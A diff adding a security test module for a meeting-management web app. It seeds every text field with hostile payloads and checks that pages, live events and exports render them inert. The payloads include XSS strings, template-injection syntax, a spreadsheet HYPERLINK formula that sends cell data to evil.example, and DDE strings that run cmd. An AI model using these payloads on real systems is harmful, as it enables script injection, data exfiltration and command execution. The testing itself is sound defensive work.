@@ -1,0 +1,508 @@
+"""Hostile text in every field people type, carried to every place that shows it.
+
+One process whose every user-supplied text — names of people, organisations, staff, the
+process, meetings, tables, the agenda, notes, comments, questions, decisions, actions,
+lines of work, attendance notes, uploaded file names, synthesis statements, pledges — holds
+a hostile payload: markup, template syntax, bidi overrides, zero-width characters, emoji,
+control characters, spreadsheet formulas. Then every page, every live event and every
+export is checked to carry it inert: escaped in HTML (no injected element, `{{7*7}}` shown
+as typed), unchanged as data, neutralised in CSV and XLSX, plain text in DOCX, ODT and PDF.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import secrets
+import zipfile
+from dataclasses import dataclass, field, replace
+from xml.etree import ElementTree
+
+import html5lib
+import pytest
+from markdown_it import MarkdownIt
+from sqlmodel import Session
+from websockets.sync.client import connect
+
+from boards.models import NAME_LIMIT, TEXT_LIMIT, Person
+from boards.text import clean_text
+from realtime.frames import Op
+from realtime.identity import Identity
+from realtime.messages import OPS
+from realtime.ops import execute
+from realtime.streams import parse_wire
+from tests.api.support import bearer, client_from, staff_account
+from tests.conftest import PASSWORD, cheap_password_hashing, unique
+
+PAYLOADS = {
+    "script": "<script>alert(1)</script>",
+    "img": '"><img src=x onerror=alert(1)>',
+    "javascript": "javascript:alert(1)",
+    "jinja": "{{7*7}} {% raw %} ${7*7} #{7*7}",
+    "unicode": "Ca\u202eff\u200be\ufeff 🎉👩‍👩‍👧 \x07\x1b[31m fine",
+    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"Clic")',
+    "dde": "+cmd|' /C calc'!A0",
+    "at": "@SUM(1)",
+    "minus": "-2+3+cmd|' /C calc'!A0",
+}
+# What the product stores for each: bidi overrides and control characters are dropped.
+STORED = {key: clean_text(value, field="t") for key, value in PAYLOADS.items()}
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+@dataclass
+class Hostile:
+    client: object
+    engine: object
+    tokens: dict[str, str]
+    process: int
+    meeting: int
+    board: int
+    organizations: list[int] = field(default_factory=list)
+    items: list[int] = field(default_factory=list)
+    statements: list[int] = field(default_factory=list)
+    pledges: list[int] = field(default_factory=list)
+    documents: list[int] = field(default_factory=list)
+    lines: list[int] = field(default_factory=list)
+    identities: dict[str, Identity] = field(default_factory=dict)
+    # A second meeting, still open, for ops after the first has ended.
+    open_meeting: dict = field(default_factory=dict)
+
+    def call(self, method: str, url: str, role: str = "facilitator", **kwargs):
+        answer = self.client.request(method, url, headers=bearer(self.tokens[role]), **kwargs)
+        assert answer.status_code < 300, f"{method} {url}: {answer.text}"
+        return answer.json() if answer.headers.get("content-type", "").startswith("application/json") else answer
+
+    def op(self, stream: str, name: str, data: dict, role: str = "facilitator",
+           meeting: int | None = None) -> dict:
+        """An op through the real-time core's own path (shape check, domain, commit), no socket."""
+        spec = OPS[name]
+        meeting = meeting or self.meeting
+        identity = replace(self.identities[role], meeting_id=meeting)
+        with Session(self.engine) as session:
+            outcome = execute(session, identity=identity, op=Op(unique("op"), stream, name, data),
+                              spec=spec, data=spec.read(data), stream=parse_wire(stream, meeting_id=meeting))
+        return outcome.ack["result"]
+
+
+@pytest.fixture(scope="module")
+def hostile(app, engine) -> Hostile:
+    with cheap_password_hashing():
+        return _build(app, engine)
+
+
+def _build(app, engine) -> Hostile:
+    client = client_from(app, f"10.254.{secrets.randbelow(250)}.{secrets.randbelow(250)}")
+    values = list(PAYLOADS.values())
+    tokens = {}
+    emails = {}
+    for role, name in [("facilitator", PAYLOADS["img"]), ("secretary", PAYLOADS["hyperlink"])]:
+        emails[role] = f"{unique(role)}@example.org"
+        _, tokens[role] = staff_account(engine, role, emails[role], name, PASSWORD)
+
+    def call(method, url, role="facilitator", **kwargs):
+        answer = client.request(method, url, headers=bearer(tokens.get(role)), **kwargs)
+        assert answer.status_code < 300, f"{method} {url}: {answer.text}"
+        return answer.json() if answer.content else None
+
+    process = call("POST", "/api/v1/processes", json={
+        "title": f"{PAYLOADS['script']} Percorso", "kind": "co-design",
+        "description": " ".join(values), "administration": PAYLOADS["img"],
+        "procedure_ref": PAYLOADS["jinja"], "rup_name": PAYLOADS["hyperlink"]})["id"]
+    call("POST", f"/api/v1/processes/{process}/staff", json={"email": emails["secretary"], "role": "secretary"})
+    kinds = ["public", "health", "third_sector", "other"]
+    organizations = [
+        call("POST", f"/api/v1/processes/{process}/organizations",
+             json={"name": value, "kind": kinds[i % len(kinds)]})["id"]
+        for i, value in enumerate(values)
+    ]
+    for value in values:
+        call("POST", f"/api/v1/processes/{process}/tables", json={"title": value, "description": value})
+        call("POST", f"/api/v1/processes/{process}/steering", json={"name": value, "position": value})
+    meeting = call("POST", f"/api/v1/processes/{process}/meetings", json={
+        "title": f"{PAYLOADS['jinja']} Incontro", "starts_at": "2026-12-01T14:00:00Z", "mode": "hybrid",
+        "location": PAYLOADS["javascript"], "agenda": values})
+    people = {}
+    for key, organization in zip(PAYLOADS, organizations, strict=True):
+        invite = call("POST", f"/api/v1/processes/{process}/invites",
+                      json={"name": PAYLOADS[key], "organization": organization, "role": "participant"})
+        joined = call("POST", "/api/v1/join", role=None, json={"invite": invite["invite"]})
+        people[key] = joined["participant"]["id"]
+        tokens[f"participant-{key}"] = joined["token"]
+    tokens["participant"] = tokens["participant-hyperlink"]
+
+    world = Hostile(client, engine, tokens, process, meeting["id"], meeting["plenary_board"],
+                    organizations)
+    staff = {member["role"]: member["person"]
+             for member in call("GET", f"/api/v1/processes/{process}")["staff"]}
+    with Session(engine) as session:
+        for role, person_id in [("facilitator", staff["facilitator"]), ("secretary", staff["secretary"]),
+                                ("participant", people["hyperlink"])]:
+            person = session.get(Person, person_id)
+            world.identities[role] = Identity(person.id, person.name, person.organization_id, person.role,
+                                              meeting["id"], "it")
+
+    board = f"board:{world.board}"
+    world.op("meeting", "meeting.start", {})
+    for value in values:
+        world.items.append(world.op(board, "item.create", {"kind": "note", "x": 1, "y": 1, "text": value},
+                                    role="participant")["item"]["id"])
+        world.op(board, "comment.add", {"item": world.items[0], "text": value})
+        world.op("meeting", "prompt.open", {"text": value})
+        world.op("meeting", "decision.record", {"text": value, "method": "consensus", "outcome": value,
+                                                "items": [world.items[0]]})
+        world.op("meeting", "action.add", {"text": value, "owner": organizations[0], "due": "2026-12-15"})
+        world.op("meeting", "timer.start", {"seconds": 60, "label": value[:100]})
+    frame = world.op(board, "item.create", {"kind": "frame", "x": 0, "y": 0, "text": PAYLOADS["script"]})
+    world.op(board, "item.create", {"kind": "note", "x": 2, "y": 2, "text": PAYLOADS["img"],
+                                    "frame": frame["item"]["id"]})
+    line = world.op("meeting", "line.promote", {"board": world.board, "frame": frame["item"]["id"],
+                                                "title": PAYLOADS["jinja"]})
+    world.lines.append(line["line"]["id"])
+    call("PATCH", f"/api/v1/lines/{world.lines[0]}", json={"description": " ".join(values)})
+
+    for value in values:
+        call("POST", f"/api/v1/meetings/{meeting['id']}/attendance", json={
+            "name": value, "organization_name": value, "title": value, "note": value})
+    call("PATCH", f"/api/v1/meetings/{meeting['id']}/attendance",
+         json={"participant": people["script"], "status": "excused", "note": " ".join(values)})
+    for key, value in PAYLOADS.items():
+        answer = client.post(f"/api/v1/meetings/{meeting['id']}/documents", headers=bearer(tokens["facilitator"]),
+                             data={"title": value},
+                             files={"file": (f"{value}.pdf", b"%PDF-1.4\n%%EOF\n", "application/pdf")})
+        assert answer.status_code == 201, answer.text
+        world.documents.append(answer.json()["id"])
+    for value in values:
+        world.statements.append(call("POST", f"/api/v1/processes/{process}/synthesis/statements",
+                                     json={"text": value, "sources": [world.items[0]]})["id"])
+        world.pledges.append(call("POST", f"/api/v1/processes/{process}/pledges", json={
+            "organization": organizations[0], "kind": "spaces", "description": value, "quantity": "1",
+            "unit": value[:40], "value_eur": "10"})["id"])
+    world.op("meeting", "meeting.end", {})
+    world.open_meeting = call("POST", f"/api/v1/processes/{process}/meetings", json={
+        "title": "Aperto", "starts_at": "2026-12-02T14:00:00Z", "mode": "online", "agenda": ["Uno"]})
+
+    # The verbale: what the record makes of it, plus what staff may type in the draft.
+    draft = call("GET", f"/api/v1/meetings/{meeting['id']}/minutes/draft")
+    typed = "\n\n".join([draft["markdown"], "[Clic](javascript:alert(1))", "<script>alert(2)</script>",
+                         '<img src=x onerror="alert(3)">', "{{7*7}} {% raw %} ${7*7}",
+                         "[data](data:text/html;base64,PHNjcmlwdD4=)"])
+    call("PUT", f"/api/v1/meetings/{meeting['id']}/minutes/draft", json={"markdown": typed})
+    version = call("POST", f"/api/v1/meetings/{meeting['id']}/minutes/approve")["version"]
+    call("POST", f"/api/v1/meetings/{meeting['id']}/minutes/versions/{version}/publish")
+    call("POST", f"/api/v1/processes/{process}/synthesis/approve")
+    call("POST", f"/api/v1/processes/{process}/synthesis/publish")
+    return world
+
+
+# --- what "inert" means ----------------------------------------------------------------
+
+_parser = html5lib.HTMLParser(namespaceHTMLElements=False)
+
+
+def injected(html: str) -> list[str]:
+    """Elements and attributes in `html` that the payloads could have made."""
+    tree = _parser.parse(html)
+    found = []
+    for element in tree.iter():
+        if not isinstance(element.tag, str):
+            continue
+        if element.tag == "script" and (not element.get("src", "").startswith("/static/")
+                                        or (element.text or "").strip()):
+            found.append(f"script {element.attrib} {element.text!r:.60}")
+        if element.tag in ("img", "iframe", "object", "embed") and element.get("src") in ("x", None):
+            if element.tag != "img" or element.get("src") == "x":
+                found.append(f"{element.tag} {element.attrib}")
+        for name, value in element.attrib.items():
+            if name.lower().startswith("on"):
+                found.append(f"{element.tag} @{name}={value!r}")
+            if name.lower() in ("href", "src", "action", "formaction", "xlink:href") and \
+                    re.sub(r"\s", "", value).lower().startswith(("javascript:", "data:text/html", "vbscript:")):
+                found.append(f"{element.tag} @{name}={value!r}")
+    return found
+
+
+def text_of(html: str) -> str:
+    tree = _parser.parse(html)
+    return "".join(tree.itertext())
+
+
+def assert_inert_html(html: str, *, shows: list[str] = ()) -> None:
+    assert injected(html) == []
+    text = text_of(html)
+    for value in shows:
+        assert value in text, f"{value!r} is not shown as typed"
+    # Nothing evaluated the template syntax.
+    assert "{{7*7}}" not in text or "49" not in re.findall(r"\b49\b", text.replace("{{7*7}}", ""))
+
+
+# --- pages --------------------------------------------------------------------------------
+
+PAGES = {
+    # page: (role, the payloads it must show as typed)
+    "/processes": ("facilitator", ["script"]),
+    "/processes/{process}": ("facilitator", ["script", "img", "jinja", "hyperlink", "dde", "at"]),
+    "/processes/{process}/audit": ("facilitator", ["script"]),
+    "/processes/{process}/pledges": ("facilitator", ["script", "img", "jinja"]),
+    "/processes/{process}/reflection": ("facilitator", []),
+    "/processes/{process}/synthesis": ("facilitator", ["script", "img", "jinja"]),
+    "/synthesis/statements/{statement}/edit": ("facilitator", ["script"]),
+    "/pledges/{pledge}/edit": ("facilitator", []),
+    "/meetings/{meeting}/setup": ("facilitator", ["jinja"]),
+    "/meetings/{meeting}/attendance": ("facilitator", ["script", "img", "jinja"]),
+    "/meetings/{meeting}/documents": ("facilitator", ["jinja", "hyperlink"]),
+    "/meetings/{meeting}/minutes": ("facilitator", ["script", "img", "jinja"]),
+    "/meetings/{meeting}/minutes/approve": ("facilitator", []),
+    "/meetings/{meeting}/reflection": ("facilitator", ["script", "img", "jinja"]),
+    "/meetings/{meeting}/room": ("facilitator", ["jinja"]),
+    "/meetings/{meeting}/room#participant": ("participant", ["jinja"]),
+    "/meetings/{meeting}/minutes#participant": ("participant", []),
+    "/meetings/{meeting}/reflection#participant": ("participant", ["script", "img"]),
+    "/public/meetings/{meeting}/minutes": (None, []),
+    "/public/processes/{process}/synthesis": (None, ["script", "jinja"]),
+}
+
+
+def _url(world: Hostile, page: str) -> str:
+    return page.split("#")[0].format(process=world.process, meeting=world.meeting,
+                                     statement=world.statements[0], pledge=world.pledges[0])
+
+
+@pytest.mark.parametrize("page", list(PAGES))
+def test_pages_show_hostile_text_escaped(hostile, page):
+    role, shows = PAGES[page]
+    answer = hostile.client.get(_url(hostile, page), headers=bearer(hostile.tokens.get(role)),
+                                follow_redirects=False)
+    assert answer.status_code == 200, answer.text[:300]
+    assert answer.headers["content-type"].startswith("text/html")
+    assert_inert_html(answer.text, shows=[STORED[key] for key in shows])
+
+
+# --- the API gives the texts back unchanged, as data ------------------------------------
+
+
+def test_the_api_returns_the_texts_as_stored(hostile):
+    board = hostile.call("GET", f"/api/v1/boards/{hostile.board}")
+    texts = {item["text"] for item in board["items"]}
+    assert set(STORED.values()) <= texts
+    unicode = STORED["unicode"]
+    assert "\u202e" not in unicode and "\x07" not in unicode and "\x1b" not in unicode
+    assert "\u200b" in unicode and "\ufeff" in unicode and "👩‍👩‍👧" in unicode
+    meeting = hostile.call("GET", f"/api/v1/meetings/{hostile.meeting}")
+    assert [entry if isinstance(entry, str) else entry["title"] for entry in meeting["agenda"]] == list(STORED.values())
+    documents = hostile.call("GET", f"/api/v1/meetings/{hostile.meeting}/documents")
+    names = [document["filename"] for document in documents["documents"]] if isinstance(documents, dict) \
+        else [document["filename"] for document in documents]
+    for name in names:
+        assert not set('<>"/\\:*?|') & set(name), name
+        assert "\u202e" not in name and not any(ord(ch) < 32 for ch in name)
+
+
+def test_a_downloaded_document_is_named_safely(hostile):
+    answer = hostile.client.get(f"/api/v1/documents/{hostile.documents[1]}", headers=bearer(hostile.tokens["facilitator"]))
+    assert answer.status_code == 200
+    disposition = answer.headers["content-disposition"]
+    assert "\r" not in disposition and "\n" not in disposition
+    assert "<img" not in disposition and disposition.count('"') in (0, 2)
+
+
+# --- live events ------------------------------------------------------------------------
+
+
+def test_live_events_carry_the_text_unchanged(hostile, live_server):
+    with connect(f"{live_server.ws_url}/ws/meetings/{hostile.meeting}", open_timeout=10) as ws:
+        ws.send(json.dumps({"type": "hello", "token": hostile.tokens["facilitator"]}))
+        assert json.loads(ws.recv(timeout=10))["type"] == "welcome"
+
+        def answer(op_id):
+            while True:
+                frame = json.loads(ws.recv(timeout=10))
+                for inner in frame["frames"] if frame["type"] == "batch" else [frame]:
+                    if inner.get("id") == op_id:
+                        return inner
+
+        for key, value in PAYLOADS.items():
+            op_id = unique(key)
+            ws.send(json.dumps({"type": "op", "id": op_id, "stream": f"board:{hostile.board}",
+                                "name": "comment.add", "data": {"item": hostile.items[0], "text": value}}))
+            ack = answer(op_id)
+            assert ack["type"] == "ack", ack
+            assert ack["result"]["comment"]["text"] == STORED[key]
+        # A snapshot sends them back as data, not markup.
+        ws.send(json.dumps({"type": "subscribe", "stream": f"board:{hostile.board}"}))
+        while True:
+            frame = json.loads(ws.recv(timeout=10))
+            frames = frame["frames"] if frame["type"] == "batch" else [frame]
+            snapshot = next((f for f in frames if f["type"] == "snapshot"), None)
+            if snapshot:
+                break
+        assert set(STORED.values()) <= {item["text"] for item in snapshot["state"]["items"]}
+        assert set(STORED.values()) <= {comment["text"] for comment in snapshot["state"]["comments"]}
+
+
+# --- exports ------------------------------------------------------------------------------
+
+DOCUMENTS = {
+    "verbale": "/api/v1/meetings/{meeting}/minutes?version=1&format={fmt}",
+    "verbale-draft": "/api/v1/meetings/{meeting}/minutes?format={fmt}",
+    "verbale-public": "/api/v1/public/meetings/{meeting}/minutes?format={fmt}",
+    "synthesis": "/api/v1/processes/{process}/synthesis?format={fmt}",
+    "synthesis-public": "/api/v1/processes/{process}/synthesis/public?format={fmt}",
+}
+
+
+def _export(world: Hostile, document: str, fmt: str) -> bytes:
+    url = DOCUMENTS[document].format(meeting=world.meeting, process=world.process, fmt=fmt)
+    answer = world.client.get(url, headers=bearer(world.tokens["facilitator"]))
+    assert answer.status_code == 200, answer.text[:300]
+    return answer.content
+
+
+def _plain_text(fmt: str, content: bytes) -> str:
+    """The text of a DOCX, ODT or PDF, checking that its markup is well formed."""
+    if fmt == "pdf":
+        from pypdf import PdfReader
+
+        assert b"/JavaScript" not in content and b"/JS " not in content and b"/JS(" not in content
+        assert b"javascript:" not in content.lower()
+        reader = PdfReader(io.BytesIO(content))
+        return "\n".join(page.extract_text() for page in reader.pages)
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        texts = []
+        for name in archive.namelist():
+            if name.endswith((".xml", ".rels")):
+                data = archive.read(name)
+                root = ElementTree.fromstring(data)  # well formed: nothing broke out of a text node
+                for element in root.iter():
+                    for attribute, value in element.attrib.items():
+                        # Links (ODT's xlink:href, DOCX relationships' Target) go nowhere hostile.
+                        if attribute.endswith(("}href", "Target")):
+                            assert not re.sub(r"\s", "", value).lower().startswith(
+                                ("javascript:", "data:", "vbscript:")), (name, value)
+                if name in ("word/document.xml", "content.xml"):
+                    texts.append(" ".join(ElementTree.fromstring(data).itertext()))
+        return "\n".join(texts)
+
+
+@pytest.mark.parametrize("document", list(DOCUMENTS))
+def test_markdown_and_html_exports_are_inert(hostile, document):
+    markdown = _export(hostile, document, "md").decode()
+    # The Markdown itself, rendered by any CommonMark renderer that lets HTML through: the
+    # record's texts (every payload here says alert(1)) are escaped in it. The verbale's staff
+    # typed raw HTML in their draft (alert(2), alert(3)): the Markdown keeps what they typed,
+    # its approved hash is of those bytes; our renderers escape it (the HTML below).
+    assert [found for found in injected(MarkdownIt("commonmark").render(markdown)) if "alert(1)" in found] == []
+    if document.startswith("synthesis"):
+        assert_inert_html(MarkdownIt("commonmark").render(markdown))
+    html = _export(hostile, document, "html").decode()
+    assert_inert_html(html, shows=["{{7*7}}"])
+    if not document.endswith("public"):
+        assert STORED["script"] in text_of(html)
+
+
+@pytest.mark.parametrize("fmt", ["docx", "odt", "pdf"])
+@pytest.mark.parametrize("document", ["verbale", "synthesis"])
+def test_office_and_pdf_exports_keep_the_payloads_as_plain_text(hostile, document, fmt):
+    text = _plain_text(fmt, _export(hostile, document, fmt))
+    squeezed = re.sub(r"\s+", "", text)
+    for key in ("script", "jinja"):
+        assert re.sub(r"\s+", "", STORED[key]) in squeezed, key
+    assert "49" not in re.findall(r"\b49\b", text) or "{{7*7}}" in squeezed
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_contributions_tables_neutralise_formulas(hostile, fmt):
+    answer = hostile.client.get(f"/api/v1/meetings/{hostile.meeting}/contributions?format={fmt}",
+                                headers=bearer(hostile.tokens["facilitator"]))
+    assert answer.status_code == 200, answer.text[:300]
+    if fmt == "csv":
+        rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig")), delimiter=";"))
+        cells = [cell for row in rows for cell in row]
+        # Neutralised with a leading apostrophe: the text follows it unchanged.
+        assert [cell for cell in cells if cell.startswith(FORMULA_START)] == []
+        shown = [cell.removeprefix("'") for cell in cells]
+    else:
+        from openpyxl import load_workbook
+
+        book = load_workbook(io.BytesIO(answer.content))
+        shown = []
+        for sheet in book.worksheets:
+            for row in sheet.iter_rows():
+                for cell in row:
+                    assert cell.data_type != "f", cell.coordinate
+                    if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
+                        # Text, with Excel's quote prefix: editing it keeps it text.
+                        assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
+                    if cell.value is not None:
+                        shown.append(str(cell.value))
+    # Every payload is there whole, as text: in the contributions and as authors' and
+    # organisations' names.
+    for key in PAYLOADS:
+        assert STORED[key] in shown, key
+    assert shown.count(STORED["hyperlink"]) >= 3  # a note's text, its author, an organisation
+
+
+# --- limits -------------------------------------------------------------------------------
+
+LONG_TEXTS = {
+    # what: (method, url, body for a text of n characters, the limit)
+    "statement": ("POST", "/api/v1/processes/{process}/synthesis/statements",
+                  lambda w, text: {"text": text, "sources": [w.items[0]]}, TEXT_LIMIT),
+    "line description": ("PATCH", "/api/v1/lines/{line}", lambda w, text: {"description": text}, TEXT_LIMIT),
+    "attendance note": ("PATCH", "/api/v1/meetings/{meeting}/attendance",
+                        lambda w, text: {"participant": w.identities["participant"].person_id,
+                                         "status": "present", "note": text}, TEXT_LIMIT),
+    "pledge description": ("POST", "/api/v1/processes/{process}/pledges",
+                           lambda w, text: {"organization": w.organizations[0], "kind": "spaces",
+                                            "description": text, "quantity": "1", "unit": "m²",
+                                            "value_eur": "1"}, TEXT_LIMIT),
+    "organisation name": ("POST", "/api/v1/processes/{process}/organizations",
+                          lambda w, text: {"name": text, "kind": "other"}, NAME_LIMIT),
+    "invitee name": ("POST", "/api/v1/processes/{process}/invites",
+                     lambda w, text: {"name": text, "organization": w.organizations[0],
+                                      "role": "participant"}, NAME_LIMIT),
+    "meeting title": ("PATCH", "/api/v1/meetings/{open_meeting}", lambda w, text: {"title": text}, NAME_LIMIT),
+    "agenda entry": ("PATCH", "/api/v1/meetings/{open_meeting}", lambda w, text: {"agenda": [text]}, TEXT_LIMIT),
+}
+
+
+@pytest.mark.parametrize("what", list(LONG_TEXTS))
+def test_texts_up_to_the_limit_are_accepted_and_one_more_refused(hostile, what):
+    method, url, body, limit = LONG_TEXTS[what]
+    url = url.format(process=hostile.process, meeting=hostile.meeting, line=hostile.lines[0],
+                     open_meeting=hostile.open_meeting["id"])
+    # Emoji count as one character each, as people see them.
+    exact = ("é" * (limit - 1)) + "🎉"
+    answer = hostile.client.request(method, url, json=body(hostile, exact), headers=bearer(hostile.tokens["facilitator"]))
+    assert answer.status_code in (200, 201), answer.text[:300]
+    refused = hostile.client.request(method, url, json=body(hostile, exact + "x"),
+                                     headers=bearer(hostile.tokens["facilitator"]))
+    assert refused.status_code == 422, refused.text[:300]
+    assert str(limit) in refused.json()["detail"]
+
+
+@pytest.mark.parametrize("name", ["item.create", "comment.add", "prompt.open", "decision.record", "action.add"])
+def test_op_texts_up_to_the_limit_are_accepted_and_one_more_refused(hostile, name):
+    from boards.errors import InvalidInput
+
+    def data(text):
+        return {
+            "item.create": {"kind": "note", "x": 1, "y": 1, "text": text},
+            "comment.add": {"item": hostile.items[1], "text": text},
+            "prompt.open": {"text": text},
+            "decision.record": {"text": text, "method": "consensus", "outcome": "ok"},
+            "action.add": {"text": text, "owner": hostile.organizations[0]},
+        }[name]
+
+    meeting = hostile.open_meeting
+    board = f"board:{meeting['plenary_board']}"
+    if name == "comment.add":
+        item = hostile.op(board, "item.create", {"kind": "note", "x": 1, "y": 1, "text": "a"}, meeting=meeting["id"])
+        hostile.items[1] = item["item"]["id"]
+    stream = board if name in ("item.create", "comment.add") else "meeting"
+    exact = "a" * (TEXT_LIMIT - 1) + "🎉"
+    hostile.op(stream, name, data(exact), meeting=meeting["id"])
+    with pytest.raises(InvalidInput, match="longer than"):
+        hostile.op(stream, name, data(exact + "a"), meeting=meeting["id"])
